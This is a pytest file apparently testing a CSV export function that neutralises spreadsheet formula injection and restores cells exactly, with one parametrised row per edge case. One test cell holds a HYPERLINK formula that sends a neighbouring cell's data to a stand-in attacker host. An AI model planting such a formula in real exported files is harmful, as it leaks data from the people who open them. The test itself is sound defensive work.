"""The formula rule of every CSV export (OWASP CSV injection), one row per case with its reason."""

from __future__ import annotations

import csv
import io

import pytest

from kintrace.csv_export import csv_writer, neutralise, restore

CASES = [
    # (cell, written, why)
    ('=HYPERLINK("http://evil.example/?"&A2)', '\'=HYPERLINK("http://evil.example/?"&A2)', "="),
    ("@SUM(1)", "'@SUM(1)", "@ starts a formula in Excel"),
    ("+380 67 123 45 67", "'+380 67 123 45 67", "+ then text: a formula"),
    ("-Petro", "'-Petro", "- then text"),
    ("-2+3", "'-2+3", "a sum, not a number"),
    ("-", "'-", "a lone sign"),
    ("\t=1", "'\t=1", "tab"),
    ("\r=1", "'\r=1", "carriage return"),
    (" =1", "' =1", "spaces some spreadsheets trim on import"),
    ("＝1", "'＝1", "full-width equals"),
    ("-3.2500", "-3.2500", "a number (match_weight) stays a number"),
    ("+380671234567", "+380671234567", "a number, even with a sign"),
    ("1e-5", "1e-5", "a number in exponent form"),
    ("2012-03-14", "2012-03-14", "a date starts with a digit"),
    ("Коваленко", "Коваленко", "a name"),
    ("'=x", "''=x", "an apostrophe already there gets one more, so restore is exact"),
    ("'abc", "'abc", "an apostrophe before plain text is left alone"),
    ("", "", "empty"),
]


@pytest.mark.parametrize(("cell", "written", "why"), CASES, ids=[c[2] for c in CASES])
def test_neutralise_and_restore(cell: str, written: str, why: str) -> None:
    assert neutralise(cell) == written, why
    assert restore(written) == cell, why


def test_writer_neutralises_unless_raw() -> None:
    safe, raw = io.StringIO(), io.StringIO()
    csv_writer(safe).writerow(["=1+1", -3.25, None, "Anna"])
    csv_writer(raw, raw=True).writerow(["=1+1", -3.25, None, "Anna"])
    assert next(csv.reader(io.StringIO(safe.getvalue()))) == ["'=1+1", "-3.25", "", "Anna"]
    assert next(csv.reader(io.StringIO(raw.getvalue()))) == ["=1+1", "-3.25", "", "Anna"]
